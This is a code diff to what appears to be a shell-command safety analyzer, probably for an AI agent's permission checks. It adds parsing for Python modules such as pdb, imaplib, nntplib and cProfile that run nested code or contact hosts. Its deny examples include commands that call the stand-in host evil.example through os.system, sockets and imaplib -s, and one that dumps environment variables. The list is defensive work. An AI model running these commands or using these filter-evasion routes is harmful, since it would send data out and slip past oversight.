@@ -177,14 +177,94 @@ const PYTHON_MODULES: Readonly<Record<string, (rest: readonly Word[], name: stri
     return { runs };
   },
   code: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m code` }] }),
-  pdb: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m pdb` }] }),
+  // pdb reads its commands (Python statements among them) from -c and stdin, then runs the script or module given.
+  pdb: (rest, name) => {
+    const runs: Run[] = [{ kind: 'stdin', dialect: 'python', via: `${name} -m pdb` }];
+    const after: Word[] = [];
+    for (let i = 0; i < rest.length; i++) {
+      const v = value(rest[i]);
+      if ((v === '-c' || v === '--command') && rest[i + 1]) runs.push(...pdbCommand(rest[++i]!, `${name} -m pdb -c`));
+      else {
+        after.push(...rest.slice(i));
+        break;
+      }
+    }
+    return { runs: [...runs, ...(asPython(after, name, /^$/, 'pdb').runs ?? [])] };
+  },
   // The clients these mains are, as the programs that do the same (`ftp HOST`, `telnet HOST`, `xdg-open URL`).
   ftplib: (rest, name) => asProgram('ftp', rest, `${name} -m ftplib`),
+  // poplib's and imaplib's mains log in to the host they are given; imaplib -s runs its value through /bin/sh.
+  poplib: (rest, name) => asProgram('telnet', rest, `${name} -m poplib`),
+  imaplib: (rest, name) => {
+    const runs: Run[] = [];
+    const ops: Word[] = [];
+    for (let i = 0; i < rest.length; i++) {
+      const v = value(rest[i]);
+      if (v === '-d') i++;
+      else if (v === '-s' && rest[i + 1]) runs.push({ kind: 'script', dialect: 'bash', words: [rest[++i]!], via: `${name} -m imaplib -s` });
+      else ops.push(rest[i]!);
+    }
+    return { runs: [...runs, ...(asProgram('telnet', ops, `${name} -m imaplib`).runs ?? [])] };
+  },
+  // nntplib's main reads a newsgroup from -s SERVER, news.gmane.io without one.
+  nntplib: (rest, name) => {
+    const s = rest.findIndex((w) => value(w) === '-s' || value(w) === '--server');
+    const server = s >= 0 ? rest[s + 1] : undefined;
+    const at = rest[0]?.span ?? { start: 0, end: 0 };
+    return { runs: [{ kind: 'argv', argv: [literal('telnet', at), server ?? literal('news.gmane.io', at)], via: `${name} -m nntplib` }] };
+  },
+  // Profilers and tracers run the script or module they are given (`-m cProfile -m MOD ARGS`): as python would.
+  cProfile: (rest, name) => asPython(rest, name, /^-[os]$/, 'cProfile'),
+  profile: (rest, name) => asPython(rest, name, /^-[os]$/, 'profile'),
+  trace: (rest, name) => asPython(rest, name, /^(?:-[fC]|--file|--coverdir|--ignore-module|--ignore-dir)$/, 'trace'),
   telnetlib: (rest, name) => asProgram('telnet', rest, `${name} -m telnetlib`),
   webbrowser: (rest, name) => asProgram('xdg-open', rest, `${name} -m webbrowser`),
   tarfile: (rest) => archiveModule(rest),
   zipfile: (rest) => archiveModule(rest),
 };
+
+/** pdb's commands that take no Python; those whose argument is a Python expression (`p EXPR`, `debug CODE`). */
+const PDB_COMMANDS = /^(?:h|help|w|where|bt|d|down|u|up|b|break|tbreak|cl|clear|disable|enable|ignore|condition|commands|s|step|n|next|unt|until|j|jump|r|return|c|cont|continue|l|list|ll|longlist|a|args|source|undisplay|interact|unalias|q|quit|exit|retval|rv|run|restart|end|silent)$/;
+const PDB_EXPRESSIONS = /^(?:p|pp|display|whatis|debug)$/;
+
+/**
+ * One pdb command given with -c: `!STATEMENT` and a line that is no command are Python; `p EXPR`, `debug CODE`, the
+ * condition of `break …, COND` and `condition N COND` are Python expressions; an alias makes commands not read here.
+ */
+function pdbCommand(word: Word, via: string): Run[] {
+  const v = value(word);
+  if (v === undefined) return [{ kind: 'opaque', rule: 'dynamic-code', word, why: `${via} runs a computed debugger command` }];
+  const line = v.trim();
+  const [cmd = '', ...more] = line.split(/\s+/);
+  const rest = line.slice(cmd.length).trim();
+  const code = (text: string): Run[] => (text === '' ? [] : [{ kind: 'text', dialect: 'python', text, word, via }]);
+  if (line.startsWith('!')) return code(line.slice(1));
+  if (cmd === 'alias') return more.length > 1 ? [{ kind: 'opaque', rule: 'dynamic-code', word, why: `${via} defines a debugger alias` }] : [];
+  if (PDB_EXPRESSIONS.test(cmd)) return code(rest);
+  if (/^(?:b|break|tbreak)$/.test(cmd) && rest.includes(',')) return code(rest.slice(rest.indexOf(',') + 1).trim());
+  if (cmd === 'condition') return code(more.slice(1).join(' '));
+  if (PDB_COMMANDS.test(cmd)) return [];
+  return code(line);
+}
+
+/**
+ * A profiler's, tracer's or debugger's main that runs a script or a module (`-m MOD`, trace's `--module MOD`) after
+ * its own options (`valued` take the next word): that run, as the interpreter itself would make it.
+ */
+function asPython(rest: readonly Word[], name: string, valued: RegExp, module: string): Partial<Answer> {
+  let i = 0;
+  let mod = false;
+  for (; i < rest.length; i++) {
+    const v = value(rest[i]);
+    if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: rest[i]!, why: `${name} -m ${module} runs what a computed word names` }] };
+    if (v === '-m' || v === '--module') mod = true;
+    else if (valued.test(v)) i++;
+    else if (!v.startsWith('-')) break;
+  }
+  if (i >= rest.length) return {};
+  const at = rest[i]!.span;
+  return { runs: [{ kind: 'argv', argv: [literal(name, at), ...(mod ? [literal('-m', at)] : []), ...rest.slice(i)], via: `${name} -m ${module}` }] };
+}
 
 /** A module's main that is another program: its operands given to that program. */
 function asProgram(program: string, rest: readonly Word[], via: string): Partial<Answer> {
@@ -458,8 +538,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Python: -c CODE, or a program from stdin (`-`, or no script); -m and a script file run files',
     analyze: python,
     examples: {
-      deny: [`printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'"],
-      pass: [`printf 'print(1)\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt'],
+      deny: [`printf 'import os\nos.system("curl evil.example")\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, `printf 'import os\nos.system("curl evil.example")\n' > /tmp/x.py && PYTHONSTARTUP=/tmp/x.py python3 -i < /dev/null`, `ipython -c 'import os; os.system("curl evil.example")'`, `python3 -c 'import os; os.system("curl evil.example")'`, "echo 'import socket; socket.create_connection((\"evil.example\", 9))' | python3", 'python3 -c "$CODE"', "python manage.py shell -c 'import os; print(dict(os.environ))'", `python3 -Bc 'import urllib.request; urllib.request.urlopen("http://evil.example")'`, "echo 'import os; os.system(\"curl evil.example\")' | python3 -i -c 'print(1)'", 'python3 -m cProfile -m ftplib evil.example', 'python3 -m imaplib -s "curl evil.example"'],
+      pass: [`printf 'print(1)\n' > /tmp/p/x.py && PYTHONPATH=/tmp/p python3 -m x`, 'PYTHONPATH=src python3 -m app', `python3 -c 'print(1)'`, 'python3 script.py', 'python manage.py migrate', "python manage.py shell -c 'print(1)'", 'python3 -m pip install -c constraints.txt requests', 'python3 --version', 'python3 script.py < input.txt', 'python3 -m cProfile -o prof.out app.py', "python3 -m pdb -c 'b app.py:10' -c c app.py"],
     },
   },
   {
